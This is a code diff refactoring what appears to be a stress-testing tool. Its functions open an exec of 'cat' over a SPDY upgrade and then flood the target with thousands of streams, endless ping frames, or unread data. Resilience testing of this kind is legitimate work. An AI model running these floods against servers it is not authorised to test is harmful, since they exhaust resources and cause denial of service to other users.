@@ -140,12 +140,26 @@ async def stalled(target: Target) -> str:
         writer.transport.abort()
 
 
-async def stream_flood(target: Target, tally: Tally) -> str:
+async def _exec_cat(target: Target, tally: Tally) -> tuple[asyncio.StreamWriter, spdy.Encoder] | str:
+    """An exec of `cat` with its streams open, or why it was refused."""
     _reader, writer, refused = await _upgrade(target, "command=cat&input=1&output=1", tally)
     if refused:
         writer.transport.abort()
         return refused
-    encoder = _cat(writer)
+    return writer, _cat(writer)
+
+
+async def _forever(writer: asyncio.StreamWriter, data: bytes) -> None:
+    while True:
+        writer.write(data)
+        await writer.drain()
+
+
+async def stream_flood(target: Target, tally: Tally) -> str:
+    opened = await _exec_cat(target, tally)
+    if isinstance(opened, str):
+        return opened
+    writer, encoder = opened
 
     async def flood() -> None:
         for stream_id in range(7, 4000, 2):
@@ -157,35 +171,20 @@ async def stream_flood(target: Target, tally: Tally) -> str:
 
 
 async def ping_flood(target: Target, tally: Tally) -> str:
-    _reader, writer, refused = await _upgrade(target, "command=cat&input=1&output=1", tally)
-    if refused:
-        writer.transport.abort()
-        return refused
-    encoder = _cat(writer)
+    opened = await _exec_cat(target, tally)
+    if isinstance(opened, str):
+        return opened
+    writer, encoder = opened
     burst = b"".join(encoder.encode(spdy.Ping(i)) for i in range(1, 20000, 2))
-
-    async def flood() -> None:
-        while True:
-            writer.write(burst)
-            await writer.drain()
-
-    return await _hold(writer, flood())
+    return await _hold(writer, _forever(writer, burst))
 
 
 async def never_read(target: Target, tally: Tally) -> str:
-    _reader, writer, refused = await _upgrade(target, "command=cat&input=1&output=1", tally)
-    if refused:
-        writer.transport.abort()
-        return refused
-    encoder = _cat(writer)
-    chunk = encoder.encode(spdy.DataFrame(3, os.urandom(32 * 1024)))
-
-    async def feed() -> None:
-        while True:
-            writer.write(chunk)
-            await writer.drain()
-
-    return await _hold(writer, feed())
+    opened = await _exec_cat(target, tally)
+    if isinstance(opened, str):
+        return opened
+    writer, encoder = opened
+    return await _hold(writer, _forever(writer, encoder.encode(spdy.DataFrame(3, os.urandom(32 * 1024)))))
 
 
 async def big_message(target: Target, tally: Tally) -> str:
